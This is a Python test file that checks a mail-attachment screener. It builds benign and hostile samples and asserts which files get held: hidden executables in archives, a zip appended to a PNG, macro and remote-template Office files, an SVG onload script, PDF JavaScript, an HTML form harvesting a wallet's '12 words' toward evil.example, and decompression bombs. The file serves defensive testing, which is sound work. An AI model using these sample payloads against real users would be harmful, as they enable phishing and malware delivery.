"""Files that run, or that nobody can look into, leave in no wrapping; what people send each other does."""

import bz2
import gzip
import io
import lzma
import tarfile
import time
import zipfile
from email.message import EmailMessage

from intake.desk.guard.files import dangerous
from intake.desk.message import Attachment

PROGRAM = b"MZ\x90\0" + b"\0" * 400
_RELS = (
    "<Relationships><Relationship "
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="https://evil.example/t" TargetMode="External"/></Relationships>'
)


def zipped(**members: bytes | str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def tarred(name: str, content: bytes) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        member = tarfile.TarInfo(name)
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    return made.getvalue()


def letter(name: str, content: bytes) -> bytes:
    made = EmailMessage()
    made["Subject"] = "See the file"
    made.set_content("See the file")
    made.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return made.as_bytes()


def nested(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = zipped(**{"in.zip": content})
    return content


HELD = {
    "a program in gzip": ("wallet.exe.gz", gzip.compress(PROGRAM)),
    "its name hidden too": ("notes.gz", gzip.compress(PROGRAM)),
    "a program in bzip2": ("notes.bz2", bz2.compress(PROGRAM)),
    "a program in xz": ("notes.xz", lzma.compress(PROGRAM)),
    "a program in a tar": ("w.tar", tarred("notes.txt", PROGRAM)),
    "a program's name in a tar": ("w.tar", tarred("w.exe", b"x")),
    "a program in a tgz": ("w.tgz", gzip.compress(tarred("notes.txt", PROGRAM))),
    "a program in a zip, named as a text": ("a.zip", zipped(**{"notes.txt": PROGRAM})),
    "a zip in a zip": ("a.zip", nested(zipped(**{"w.exe": b"x"}), 1)),
    "more zips in zips than are looked into": ("a.zip", nested(zipped(**{"notes.txt": b"x"}), 6)),
    "a zip behind a picture": ("p.png", b"\x89PNG\r\n\x1a\n" + zipped(**{"w.exe": b"x"})),
    "a letter with a program": ("m.eml", letter("w.exe", PROGRAM)),
    "a letter with a program, named as a text": ("m.txt", letter("notes.txt", PROGRAM)),
    "a browser's extension": ("e.zip", zipped(**{"manifest.json": '{"manifest_version": 3}'})),
    "another": ("e.bin", b"Cr24\3\0\0\0"),
    "a profile of a telephone": ("p.xml", b"<?xml version='1.0'?><plist><key>PayloadType</key></plist>"),
    "macros of the old kind": ("a.xlsx", zipped(**{"xl/macrosheets/sheet1.xml": "x"})),
    "a template from elsewhere": (
        "a.docx",
        zipped(**{"word/_rels/settings.xml.rels": _RELS.format("attachedTemplate")}),
    ),
    "a page with a form": ("a.html", b"<form action=https://evil.example>Your 12 words <input></form>"),
    "the same without its name": ("a.txt", b"<!DOCTYPE html><form action=https://evil.example></form>"),
    "a page in two bytes a letter": ("a.html", "<form action=x>".encode("utf-16")),
    "a picture that runs": ("a.svg", b"<svg onload=alert(1)></svg>"),
    "a PDF that runs": ("a.pdf", b"%PDF-1.4 1 0 obj<</OpenAction<</S/JavaScript/JS(x)>>>>"),
    "a text with an object": ("a.rtf", b"{\\rtf1{\\object\\objdata 0105}}"),
    "a locked document": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
    ),
    "what there is no reader for": ("a.zst", b"\x28\xb5\x2f\xfd\0\0"),
    "a broken gzip": ("a.gz", b"\x1f\x8b broken"),
    "a tar of no end": ("a.tgz", gzip.compress(tarred("a.txt", b"\0" * (40 << 20)))),
}
LET_GO = {
    "a log in gzip": ("app.log.gz", gzip.compress(b"line\n" * 400_000)),
    "a log in bzip2": ("app.log.bz2", bz2.compress(b"line\n" * 400_000)),
    "a log in xz": ("app.log.xz", lzma.compress(b"line\n" * 400_000)),
    "logs in a tgz": ("logs.tgz", gzip.compress(tarred("app.log", b"line\n" * 1000))),
    "a zip of pictures": ("a.zip", zipped(**{"a.png": b"\x89PNG", "b.txt": "x"})),
    "a zip in a zip": ("a.zip", nested(zipped(**{"a.txt": b"x"}), 1)),
    "a document with a link": (
        "a.docx",
        zipped(**{"word/_rels/document.xml.rels": _RELS.format("hyperlink")}),
    ),
    "a letter with a picture": ("m.eml", letter("a.png", b"\x89PNG")),
    "a page": ("a.html", b"<!doctype html><p>hi</p>"),
    "settings": ("package.json", b'{"name": "x"}'),
    "a text of a program's name": ("a.exe.txt", b"hello"),
}


def test_what_runs_or_cannot_be_looked_into_leaves_in_no_wrapping() -> None:
    assert [] == [
        case for case, (name, content) in HELD.items() if not dangerous(Attachment(name, "", content))
    ]


def test_files_that_people_send_each_other_go() -> None:
    assert [] == [
        case for case, (name, content) in LET_GO.items() if dangerous(Attachment(name, "", content))
    ]


def test_a_bomb_takes_no_longer_than_a_large_file() -> None:
    bombs = {
        "gzip": gzip.compress(b"\0" * (64 << 20)),
        "zip": zipped(**{f"{number}.txt": "x" for number in range(2500)}),
    }
    start = time.process_time()
    dangerous(Attachment("a.gz", "", bombs["gzip"]))

    assert dangerous(Attachment("a.zip", "", bombs["zip"]))
    assert time.process_time() - start < 2
